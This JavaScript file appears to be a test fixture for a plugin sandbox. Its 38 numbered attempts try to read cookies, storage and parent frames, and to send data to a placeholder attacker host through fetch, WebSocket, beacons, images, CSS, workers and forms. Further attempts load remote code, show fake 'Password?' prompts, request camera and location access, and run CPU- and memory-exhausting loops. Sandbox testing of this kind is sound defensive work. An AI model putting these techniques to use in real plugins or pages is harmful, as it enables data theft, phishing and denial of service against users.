// A hostile plugin: attempts 1 to 38. Each tries in every way it can and gives back what it got hold of. What reaches the
// attacker's server is counted there, under the number of the attempt.
const ATTACKER = '%ATTACKER%';
const HOST = '%HOST%';
const hit = (n, kind = 'x') => `${ATTACKER}/hit/${n}/${kind}`;
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

/** What came of each try. */
async function all(tries) {
  const result = {};
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      const value = await Promise.race([attempt(), wait(400).then(() => 'nothing happened')]);
      result[name] = typeof value === 'object' && value !== null ? JSON.stringify(value) : String(value);
    } catch (error) {
      result[name] = `${error?.name}: ${String(error?.message).slice(0, 80)}`;
    }
  }
  return result;
}
/** Looks for a name on the global object and along its prototypes. */
const find = (name) => globalThis[name] ?? Object.getPrototypeOf(globalThis)?.[name] ?? self?.[name];

export const a1 = () => all({ parent: () => parent.document.body.innerText, top: () => top.document.title, opener: () => opener.document.body.innerText, frames: () => frames.length });
export const a2 = () => all({ frameElement: () => frameElement.ownerDocument.URL });
export const a3 = () => all({ baseURI: () => document.baseURI, referrer: () => document.referrer, ancestors: () => [...location.ancestorOrigins].join(), href: () => location.href, origin: () => self.origin, stack: () => new Error('x').stack });
export const a4 = () => all({ cookie: () => document.cookie, cookieStore: () => cookieStore.getAll(), find: () => find('cookieStore').getAll() });
export const a5 = () => all({ local: () => localStorage.getItem('secret'), session: () => sessionStorage.getItem('secret') });
export const a6 = () => all({
  databases: () => indexedDB.databases(),
  open: () => new Promise((resolve, reject) => {
    const request = find('indexedDB').open('host');
    request.onsuccess = () => resolve(`opened ${request.result.name}`);
    request.onerror = () => reject(request.error);
  }),
});
export const a7 = () => all({ keys: () => caches.keys(), match: () => find('caches').match(`${HOST}/`) });
export const a8 = () => all({ opfs: async () => (await navigator.storage.getDirectory()).name, nav: () => find('navigator').storage.getDirectory() });
export const a9 = () => all({ post: () => new BroadcastChannel('host').postMessage('from the plugin'), find: () => new (find('BroadcastChannel'))('host').postMessage('from the plugin') });
export const a10 = () => all({ query: async () => JSON.stringify(await navigator.locks.query()), take: () => find('navigator').locks.request('host-lock', { steal: true }, () => 'stolen') });
export const a11 = () => all({ fetch: () => fetch(hit(11)), noCors: () => fetch(hit(11, 'no-cors'), { mode: 'no-cors' }), find: () => find('fetch')(hit(11, 'found')), keepalive: () => fetch(hit(11, 'keepalive'), { keepalive: true, method: 'POST', body: 'x' }), host: async () => (await fetch(`${HOST}/secret`)).text() });
export const a12 = () => all({ xhr: () => new Promise((resolve, reject) => {
  const request = new XMLHttpRequest();
  request.open('GET', hit(12));
  request.onload = () => resolve(request.status);
  request.onerror = () => reject(new Error('refused'));
  request.send();
}), sync: () => {
  const request = new XMLHttpRequest();
  request.open('GET', hit(12, 'sync'), false);
  request.send();
  return request.status;
} });
export const a13 = () => all({ socket: () => new Promise((resolve, reject) => {
  const socket = new WebSocket(hit(13).replace('http', 'ws'));
  socket.onopen = () => resolve('open');
  socket.onerror = () => reject(new Error('refused'));
}), stream: () => new WebSocketStream(hit(13, 'stream').replace('http', 'ws')).opened });
export const a14 = () => all({ source: () => new Promise((resolve, reject) => {
  const source = new EventSource(hit(14));
  source.onopen = () => resolve('open');
  source.onerror = () => reject(new Error('refused'));
}) });
export const a15 = () => all({ beacon: () => navigator.sendBeacon(hit(15), 'x'), find: () => find('navigator').sendBeacon(hit(15, 'found'), 'x') });
export const a16 = () => all({ image: () => { new Image().src = hit(16); }, bitmap: () => createImageBitmap(new Blob([`<svg xmlns="http://www.w3.org/2000/svg"><image href="${hit(16, 'svg')}"/></svg>`], { type: 'image/svg+xml' })) });
export const a17 = () => all({
  font: () => new FontFace('x', `url(${hit(17, 'font')})`).load(),
  style: () => { document.head.append(Object.assign(document.createElement('style'), { textContent: `@import "${hit(17, 'import')}"; body { background: url(${hit(17, 'url')}) }` })); },
  canvas: () => { new OffscreenCanvas(1, 1).getContext('2d').filter = `url(${hit(17, 'filter')}#x)`; },
});
export const a18 = () => all({ link: () => { document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: hit(18) })); }, rules: () => { document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: `{"prefetch":[{"urls":["${hit(18, 'rules')}"]}]}` })); } });
export const a19 = () => all({
  import: () => import(hit(19, 'module.js')),
  importHost: async () => Object.keys(await import(`${HOST}/secret.js`)).join(),
  importScripts: () => importScripts(hit(19, 'script.js')),
  data: () => import('data:text/javascript,export default 1'),
  eval: () => (0, eval)('1 + 1'),
  function: () => new Function('return 1')(),
  constructor: () => (async () => {}).constructor('return 1')(),
  timer: () => new Promise((resolve) => setTimeout(`globalThis.evaluated = 1`, 0) && setTimeout(() => resolve(globalThis.evaluated ?? 'not run'), 50)),
  wasm: () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
});
export const a20 = () => all({ worker: () => new Promise((resolve, reject) => {
  const code = `fetch('${hit(20)}').then(() => postMessage('reached'), (e) => postMessage('offline'));`;
  const worker = new Worker(URL.createObjectURL(new Blob([code])));
  worker.onmessage = ({ data }) => resolve(data);
  worker.onerror = () => reject(new Error('refused'));
}), remote: () => new Promise((resolve, reject) => {
  const worker = new Worker(hit(20, 'worker.js'));
  worker.onmessage = () => resolve('reached');
  worker.onerror = () => reject(new Error('refused'));
}) });
export const a21 = () => all({ shared: () => new SharedWorker(hit(21)).port, service: () => navigator.serviceWorker.register(hit(21, 'sw.js')) });
export const a22 = () => all({ iframe: () => { document.body.append(Object.assign(document.createElement('iframe'), { src: hit(22) })); }, srcdoc: () => { document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: `<img src="${hit(22, 'srcdoc')}">` })); } });
export const a23 = () => all({ assign: () => location.assign(hit(23)), href: () => { location.href = hit(23, 'href'); }, replace: () => self.location.replace(hit(23, 'replace')), navigation: () => navigation.navigate(hit(23, 'nav')) });
export const a24 = () => all({ meta: () => { document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${hit(24)}` })); } });
export const a25 = () => all({ form: () => { const form = Object.assign(document.createElement('form'), { action: hit(25), method: 'post' }); document.body.append(form); form.submit(); } });
export const a26 = () => all({ download: () => Object.assign(document.createElement('a'), { href: hit(26), download: 'x.exe' }).click(), picker: () => showSaveFilePicker() });
export const a27 = () => all({ open: () => open(hit(27)), top: () => { top.location = hit(27, 'top'); }, clients: () => clients.openWindow(hit(27, 'client')) });
export const a28 = () => all({ alert: () => alert('Your session is over'), confirm: () => confirm('x'), prompt: () => prompt('Password?'), print: () => print(), fullscreen: () => document.documentElement.requestFullscreen() });
export const a29 = () => all({ rtc: async () => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: '%STUN%' }] });
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
  await wait(300);
  return peer.localDescription.sdp;
}, find: () => find('RTCPeerConnection').name });
export const a30 = () => all({ transport: () => new WebTransport(hit(30).replace('http:', 'https:')).ready });
export const a31 = () => all({ place: () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)), camera: () => navigator.mediaDevices.getUserMedia({ video: true }), clipboard: () => navigator.clipboard.readText(), notify: () => new Notification('x'), devices: () => navigator.usb.getDevices(), permissions: () => navigator.permissions.query({ name: 'geolocation' }).then(({ state }) => state) });
export const a32 = () => all({ focus: () => focus(), window: () => self.focus(), element: () => document.body.focus(), parent: () => parent.focus() });
export const a33 = () => all({ back: () => history.back(), push: () => history.pushState({}, '', '/stolen'), parent: () => parent.history.back() });
export const a34 = () => all({ shared: () => new SharedArrayBuffer(8).byteLength, wait: () => Atomics.wait(new Int32Array(new SharedArrayBuffer(8)), 0, 0, 10), isolated: () => `isolated: ${globalThis.crossOriginIsolated}`, resolution: () => {
  const steps = new Set();
  const end = performance.now() + 20;
  let last = 0;
  while (performance.now() < end) { const now = performance.now(); if (now !== last) steps.add(Math.round((now - last) * 1e6)); last = now; }
  return `finest step of the clock, ns: ${Math.min(...steps)}`;
} });
export const a35 = () => { for (;;); };
export const a36 = async () => {
  const held = [];
  for (let i = 0; i < 24; i++) held.push(new Uint8Array(16 * 1024 * 1024).fill(1));
  await wait(1200);
  return { held: `${held.length * 16} MiB` };
};
export const a37 = () => new Promise(() => { const again = () => Promise.resolve().then(again); again(); });
export const a38 = async () => {
  let ticks = 0;
  for (let i = 0; i < 50; i++) { const again = () => { ticks += 1; setTimeout(again, 0); }; again(); }
  await wait(1200);
  return { ticks: 'timers ran' };
};
export const activate = () => {};
